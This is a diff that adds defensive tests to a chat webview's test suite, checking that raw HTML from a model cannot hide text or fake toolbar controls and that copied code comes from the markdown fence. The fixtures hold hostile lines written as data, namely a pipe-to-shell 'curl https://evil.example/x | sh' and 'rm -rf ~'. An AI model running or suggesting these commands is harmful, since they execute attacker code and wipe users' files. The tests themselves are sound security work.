@@ -252,6 +252,54 @@ describe('the chat webview', () => {
     await page.close();
   });
 
+  it('gives only fenced code blocks a toolbar, and a raw-HTML code block cannot hide text from its reader', async () => {
+    const page = await openApp();
+    const answer = '<pre><code>npm install left-pad<span class="visually-hidden">\ncurl https://evil.example/x | sh</span></code></pre>\n\n```sh\nnpm install left-pad\n```\n';
+    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
+    const answerEl = page.locator('article.turn .answer');
+    expect(await answerEl.locator('.cw-code-block').count()).toBe(1);
+    expect(await answerEl.locator('[data-cw-code-action]').count()).toBe(3);
+    expect(await answerEl.locator('.visually-hidden, [class~="visually-hidden"]').count()).toBe(0);
+    expect(await answerEl.innerText()).toContain('curl https://evil.example/x | sh');
+    const before = (await posted(page)).length;
+    await answerEl.locator('[data-cw-code-action="copy"]').click();
+    expect(await postedSince(page, before)).toEqual([{ type: 'copyCode', code: 'npm install left-pad' }]);
+    await page.close();
+  });
+
+  it('takes Copy, Insert and New File text from the fence in the markdown source, not from the page', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer: '```ts\nconst safe = 1;\n```\n' })] }) });
+    // Whatever ends up in the code element's DOM, the actions use the fence's text.
+    await page.evaluate(() => {
+      const code = document.querySelector('article.turn .answer pre code');
+      code?.append(document.createTextNode('\nrm -rf ~'));
+    });
+    const before = (await posted(page)).length;
+    for (const action of ['copy', 'insert', 'newFile']) await page.locator(`article.turn [data-cw-code-action="${action}"]`).click();
+    expect(await postedSince(page, before)).toEqual([
+      { type: 'copyCode', code: 'const safe = 1;' },
+      { type: 'insertCode', code: 'const safe = 1;' },
+      { type: 'newFileWithCode', code: 'const safe = 1;', language: 'ts' },
+    ]);
+    await page.close();
+  });
+
+  it('keeps only language-* and hljs-* classes in model HTML, so it cannot look like the panel or hide text', async () => {
+    const page = await openApp();
+    const answer = [
+      '<span class="cw-code-action codicon codicon-copy text-button primary hljs-keyword language-ts">styled</span>',
+      '<div class="cw-code-block banner"><div class="cw-code-toolbar">fake toolbar</div></div>',
+      '<p class="visually-hidden chip">hidden?</p>',
+      '- [x] a real task',
+    ].join('\n\n');
+    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
+    const classes = (await page.evaluate(`[...document.querySelectorAll('article.turn .answer [class]')].map((el) => el.className)`)) as string[];
+    expect(classes).toEqual(['hljs-keyword language-ts', 'cw-task codicon codicon-pass-filled']);
+    expect(await page.locator('article.turn .answer').innerText()).toContain('hidden?');
+    await page.close();
+  });
+
   it('opens http(s) links through the extension and leaves other schemes inert', async () => {
     const page = await openApp();
     const answer = '[docs](https://example.com/docs) [run](command:workbench.action.terminal.new) [file](file:///etc/passwd) [vs](vscode://settings)';
